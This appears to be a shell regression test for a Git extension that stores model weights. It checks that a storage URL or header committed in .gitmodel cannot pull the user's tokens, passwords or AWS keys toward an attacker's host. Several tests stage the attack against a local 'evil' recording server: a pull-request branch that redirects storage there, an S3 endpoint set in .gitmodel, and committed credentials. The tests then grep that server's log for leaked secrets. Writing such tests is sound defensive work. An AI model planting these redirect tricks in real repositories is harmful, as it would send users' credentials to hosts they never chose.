#!/bin/sh

test_description='a committed .gitmodel never steers the user'"'"'s credentials

A repository (upstream, or a pull request branch) names its storage in
.gitmodel. These are the cases of issue 15, run as an attacker would: a PR
branch moves the storage to "evil" (a recording server that logs every
request line and header); an S3 endpoint in .gitmodel; an Authorization
header that hides the credential helper; a password committed in
.gitmodel; a password with # in the storage URL. Nothing of the user'"'"'s
may reach a host that only the repository named.'

. "$(dirname "$0")/test-lib.sh"
. "$TEST_DIRECTORY/lib-httpd.sh"
. "$TEST_DIRECTORY/lib-s3.sh"
. "$TEST_DIRECTORY/lib-record.sh"

start_httpd
start_s3 models
start_record_server
EVIL_URL=$RECORD_URL EVIL_LOG=$RECORD_LOG

TOKEN=tok-$(od -An -N8 -tx1 /dev/urandom | tr -d " \n")-secret
FAKE_SESSION=session-$(od -An -N8 -tx1 /dev/urandom | tr -d " \n")-secret

# evil_saw_no_secret: the recording server got no credential of any kind.
evil_saw_no_secret () {
	! grep -i -e "^authorization:" -e "^x-amz-security-token:" \
		-e "^x-test" "$EVIL_LOG" &&
	! grep -F -e "$TOKEN" -e "$FAKE_SESSION" -e "$HTTPD_PASSWORD" \
		-e "$S3_ACCESS_KEY_ID" "$EVIL_LOG"
}

# new_repo DIR: a repository tracking *.pth, with a bare remote DIR.git.
new_repo () {
	git init -q --bare "$1.git" &&
	git init -q "$1" &&
	git -C "$1" model track "*.pth" >/dev/null &&
	git -C "$1" add .gitattributes &&
	git -C "$1" remote add origin "../$1.git"
}

test_expect_success 'setup: upstream, a PR branch to evil, a victim with a token' '
	git config --global model.compression none &&
	git model install &&
	new_repo up &&
	git -C up config -f .gitmodel model.storage "$HTTPD_URL/open/models" &&
	git -C up add .gitmodel &&
	commit_weights up a.pth 300k &&
	git -C up push -q origin main &&
	git clone -q up.git attacker &&
	git -C attacker checkout -q -b pr &&
	git -C attacker config -f .gitmodel model.storage "$EVIL_URL/x" &&
	git -C attacker add .gitmodel &&
	commit_weights attacker b.pth 300k &&
	git -C attacker push -q --no-verify origin pr &&
	git config --global model.http.extraHeader "Authorization: Bearer $TOKEN" &&
	git clone -q up.git victim &&
	test_cmp_bin up/a.pth victim/a.pth &&
	commit_weights victim c.pth 300k &&
	# no racily clean entry: git has no reason to run the filter before
	# the checkout has written the PR'"'"'s .gitmodel
	touch -d "1 hour ago" victim/*.pth victim/.git* &&
	# a touched lent file is the user'"'"'s: the first refresh runs the
	# filter, which ends the loan (its ctime changes); the second one
	# records the file as it then is
	git -C victim update-index -q --refresh &&
	git -C victim update-index -q --refresh &&
	: >"$EVIL_LOG"
'

test_expect_success 'git checkout of the PR branch: evil is asked, without the token' '
	test_might_fail git -C victim checkout -q pr 2>err &&
	grep "^GET /x/sha256/" "$EVIL_LOG" &&
	evil_saw_no_secret
'

test_expect_success 'git push origin main from the PR checkout: no token, and a warning' '
	: >"$EVIL_LOG" &&
	git -C victim push origin main 2>err &&
	grep "^PUT /x/sha256/" "$EVIL_LOG" &&
	evil_saw_no_secret &&
	grep "warning: the .gitmodel of the pushed commit [0-9a-f]* names storage .$HTTPD_URL/open/models.; uploading to the work tree.s .$EVIL_URL/x." err
'

test_expect_success 'an unscoped header is not sent to a storage only .gitmodel names' '
	git config --global --unset model.http.extraHeader &&
	new_repo bearer &&
	git -C bearer config -f .gitmodel model.storage "$HTTPD_URL/bearer/models" &&
	git -C bearer add .gitmodel &&
	commit_weights bearer a.pth 300k &&
	test_must_fail git -C bearer \
		-c model.http.extraHeader="Authorization: Bearer $HTTPD_TOKEN" \
		push origin main 2>err &&
	grep "error: .$HTTPD_URL/bearer/models. wants credentials; headers without a URL scope go only to storage your git config names (git config model.storage .$HTTPD_URL/bearer/models., or scope the header: git config .http.$HTTPD_URL/bearer/models.extraHeader. ...)$" err &&
	git -C bearer config model.storage "$HTTPD_URL/bearer/models" &&
	git -C bearer -c model.http.extraHeader="Authorization: Bearer $HTTPD_TOKEN" \
		push -q origin main &&
	test_path_is_file "$(obj "$HTTPD_ROOT/bearer/models" $(oid_of bearer/a.pth))"
'

test_expect_success 'http.<url>.extraHeader goes to that URL only, as git matches it' '
	git -C bearer config --unset model.storage &&
	commit_weights bearer b.pth 300k &&
	git -C bearer \
		-c "http.$HTTPD_URL/bearer/.extraHeader=Authorization: Bearer $HTTPD_TOKEN" \
		push -q origin main &&
	test_path_is_file "$(obj "$HTTPD_ROOT/bearer/models" $(oid_of bearer/b.pth))" &&
	: >"$EVIL_LOG" &&
	for storage in "$EVIL_URL/x" "$EVIL_URL/good-evil/x" \
		"http://127.0.0.1:$HTTPD_PORT@${EVIL_URL#http://}/y"
	do
		commit_weights bearer "c$(wc -l <"$EVIL_LOG").pth" 300k &&
		git -C bearer -c model.storage="$storage" \
			-c "http.$HTTPD_URL/bearer/.extraHeader=X-Test: $TOKEN" \
			-c "http.$EVIL_URL/good/.extraHeader=X-Test: $TOKEN" \
			-c "http.http://127.0.0.1:$HTTPD_PORT/.extraHeader=X-Test: $TOKEN" \
			push -q origin main || return 1
	done &&
	test $(grep -c "^PUT " "$EVIL_LOG") = 3 &&
	evil_saw_no_secret
'

test_expect_success 'TLS: http.<url>.sslCAInfo counts for its URL only' '
	new_repo tls &&
	git -C tls config model.storage "$HTTPD_SSL_URL/open/models" &&
	commit_weights tls a.pth 300k &&
	test_must_fail git -C tls \
		-c "http.https://127.0.0.1:1/.sslCAInfo=$HTTPD_CERT" \
		push origin main 2>err &&
	grep -i "certificate" err &&
	git -C tls -c "http.$HTTPD_SSL_URL/.sslCAInfo=$HTTPD_CERT" \
		push -q origin main &&
	test_path_is_file "$(obj "$HTTPD_ROOT/open/models" $(oid_of tls/a.pth))"
'

test_expect_success 'http.<url> matching agrees with git config --get-urlmatch' '
	while read pattern url
	do
		git config -f urlmatch.cfg "http.$pattern.extraHeader" X &&
		if git config -f urlmatch.cfg --get-urlmatch http.extraHeader "$url" >/dev/null
		then
			echo "$pattern $url match"
		else
			echo "$pattern $url no match"
		fi >>expect &&
		echo "$pattern $url $(test-tool url-match "$pattern" "$url")" >>actual &&
		rm urlmatch.cfg || return 1
	done <<-\EOF &&
	https://h.example/ https://h.example/a/b
	https://h.example https://h.example:443/a
	https://H.Example/a https://h.example/a/b
	https://h.example/a https://h.example/ab
	https://h.example/a/ https://h.example/a
	https://h.example/a https://h.example/a%2fb
	https://h.example/%61 https://h.example/a/b
	http://h.example/ https://h.example/
	https://h.example:8443/ https://h.example/
	https://*.example/ https://h.example/x
	https://*.example/ https://a.h.example/x
	https://h*.example/ https://host.example/x
	https://u@h.example/ https://h.example/x
	https://u@h.example/ https://u:pw@h.example/x
	https://u@h.example/ https://v@h.example/x
	https://h.example/ https://u@h.example/x
	http://127.0.0.1:1/ http://127.0.0.1:1@127.0.0.1:2/x
	EOF
	test_cmp expect actual
'

test_expect_success 'S3 endpoint from .gitmodel: refused, no request, says how to trust it' '
	new_repo s3 &&
	git -C s3 config -f .gitmodel model.storage s3://models/m &&
	git -C s3 config -f .gitmodel model.s3.endpoint "$EVIL_URL" &&
	git -C s3 add .gitmodel &&
	commit_weights s3 a.pth 300k &&
	: >"$EVIL_LOG" &&
	test_must_fail env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
		AWS_SESSION_TOKEN=$FAKE_SESSION \
		git -C s3 push origin main 2>err &&
	grep "error: S3 endpoint .$EVIL_URL. is named only by .gitmodel; AWS credentials go only to AWS or to an endpoint you name (git config model.s3.endpoint .$EVIL_URL., or AWS_ENDPOINT_URL)" err &&
	test_line_count = 0 "$EVIL_LOG"
'

test_expect_success 'S3: an endpoint the user names wins and gets the keys' '
	env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
		AWS_ENDPOINT_URL=$S3_ENDPOINT \
		git -C s3 push -q origin main &&
	commit_weights s3 b.pth 300k &&
	git -C s3 config model.s3.endpoint "$S3_ENDPOINT" &&
	env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
		git -C s3 push -q origin main &&
	test "$(s3_log_count PUT 200)" = 2 &&
	test_line_count = 0 "$EVIL_LOG"
'

# push_s3_with ENV...: commit one more file in s3 and push it with the
# test server's keys and ENV; the test server gets it, evil nothing.
push_s3_with () {
	git -C s3 config --unset-all model.s3.endpoint
	n=$(s3_log_count PUT 200) &&
	commit_weights s3 "w$n.pth" 100k &&
	: >"$EVIL_LOG" &&
	env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY "$@" \
		git -C s3 push -q origin main &&
	test "$(s3_log_count PUT 200)" = $((n + 1)) &&
	test_line_count = 0 "$EVIL_LOG"
}

test_expect_success 'S3: AWS_ENDPOINT_URL_S3 is the user naming the endpoint' '
	push_s3_with AWS_ENDPOINT_URL_S3=$S3_ENDPOINT \
		AWS_ENDPOINT_URL=$EVIL_URL
'

test_expect_success 'S3: the AWS profile'"'"'s endpoint_url is the user'"'"'s choice' '
	mkdir -p .aws &&
	cat >.aws/config <<-EOF &&
	[default]
	region = us-east-1

	[profile local]
	endpoint_url = $S3_ENDPOINT
	EOF
	push_s3_with AWS_PROFILE=local &&
	cat >.aws/config <<-EOF &&
	[default]
	endpoint_url = $S3_ENDPOINT
	EOF
	push_s3_with &&
	cat >alt-config <<-EOF &&
	[profile alt]
	endpoint_url = $S3_ENDPOINT
	EOF
	push_s3_with AWS_CONFIG_FILE="$PWD/alt-config" AWS_PROFILE=alt
'

test_expect_success 'S3: an endpoint_url of the profile'"'"'s services section, as the AWS CLI reads it' '
	cat >.aws/config <<-EOF &&
	[profile svc]
	services = local-s3
	endpoint_url = $EVIL_URL

	[services local-s3]
	sts =
	  endpoint_url = $EVIL_URL
	s3 =
	  endpoint_url = $S3_ENDPOINT
	EOF
	push_s3_with AWS_PROFILE=svc
'

test_expect_success 'S3: ignore_configured_endpoint_urls: .gitmodel'"'"'s endpoint is refused again' '
	cat >.aws/config <<-EOF &&
	[profile ign]
	endpoint_url = $S3_ENDPOINT
	ignore_configured_endpoint_urls = true
	EOF
	git -C s3 config --unset-all model.s3.endpoint
	commit_weights s3 ign.pth 100k &&
	: >"$EVIL_LOG" &&
	test_must_fail env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY AWS_PROFILE=ign \
		git -C s3 push origin main 2>err &&
	grep "error: S3 endpoint .$EVIL_URL. is named only by .gitmodel" err &&
	test_must_fail env AWS_ACCESS_KEY_ID=$S3_ACCESS_KEY_ID \
		AWS_SECRET_ACCESS_KEY=$S3_SECRET_ACCESS_KEY \
		AWS_IGNORE_CONFIGURED_ENDPOINT_URLS=true \
		AWS_ENDPOINT_URL=$S3_ENDPOINT \
		git -C s3 push origin main 2>err &&
	grep "error: S3 endpoint .$EVIL_URL. is named only by .gitmodel" err &&
	test_line_count = 0 "$EVIL_LOG" &&
	rm .aws/config
'

test_expect_success 'an Authorization header refused: said so, the stored password kept' '
	new_repo basic &&
	git -C basic config credential.helper store &&
	echo "http://$HTTPD_USER:$HTTPD_PASSWORD@127.0.0.1:$HTTPD_PORT" \
		>"$HOME/.git-credentials" &&
	cp "$HOME/.git-credentials" creds.expect &&
	git -C basic config model.storage "$HTTPD_URL/auth/models" &&
	git -C basic config model.http.extraHeader \
		"Authorization: Basic $(printf "%s" "$HTTPD_USER:wrong" | base64)" &&
	commit_weights basic a.pth 300k &&
	test_must_fail git -C basic push origin main 2>err &&
	grep "error: .$HTTPD_URL/auth/models. refused the Authorization header of your extraHeader setting" err &&
	test_cmp creds.expect "$HOME/.git-credentials"
'

test_expect_success 'the same header in .gitmodel is ignored: the helper works, keeps it' '
	git -C basic config --unset model.http.extraHeader &&
	git -C basic config -f .gitmodel model.http.extraHeader \
		"Authorization: Basic $(printf "%s" "$HTTPD_USER:wrong" | base64)" &&
	git -C basic push -q origin main 2>err &&
	grep "warning: ignoring .model.http.extraheader. in .gitmodel" err &&
	test_path_is_file "$(obj "$HTTPD_ROOT/auth/models" $(oid_of basic/a.pth))" &&
	grep -F "http://$HTTPD_USER:$HTTPD_PASSWORD@127.0.0.1" "$HOME/.git-credentials"
'

test_expect_success 'a password in a committed .gitmodel: refused, pointing at credential helpers' '
	new_repo pw &&
	git -C pw config -f .gitmodel model.storage \
		"http://$HTTPD_USER:$HTTPD_PASSWORD@127.0.0.1:$HTTPD_PORT/auth/models" &&
	test-tool genrandom pw 64k >pw/a.pth &&
	test_must_fail git -C pw add a.pth 2>err &&
	grep "error: .model.storage. in .gitmodel has a user name or password in its URL; remove it and use a credential helper (see gitcredentials(7))" err &&
	test_must_fail git -C pw cat-file -e :a.pth &&
	git -C pw model env >out 2>&1 &&
	! grep -F "$HTTPD_PASSWORD" out err
'

test_expect_success 'a password with # in the storage URL: never in a pointer or env' '
	new_repo hash &&
	git -C hash config model.storage \
		"http://$HTTPD_USER:pa#ss-$TOKEN@127.0.0.1:$HTTPD_PORT/auth/models" &&
	commit_weights hash a.pth 300k &&
	git -C hash cat-file -p HEAD:a.pth >pointer &&
	grep "^url $HTTPD_URL/auth/models/sha256/" pointer &&
	git -C hash model env >out &&
	grep -F "model.storage=http://***@127.0.0.1:$HTTPD_PORT/auth/models" out &&
	! grep -F -e "pa#ss" -e "$TOKEN" pointer out
'

test_expect_success 'user and password in the URL are %-decoded, as git does' '
	enc=$(printf "%s" "$HTTPD_PASSWORD" | od -An -v -tx1 | tr -d " \n" |
		sed "s/../%&/g") &&
	git -C hash config model.storage \
		"http://$HTTPD_USER:$enc@127.0.0.1:$HTTPD_PORT/auth/models" &&
	GIT_TERMINAL_PROMPT=0 git -C hash push -q origin main &&
	test_path_is_file "$(obj "$HTTPD_ROOT/auth/models" $(oid_of hash/a.pth))"
'

test_done
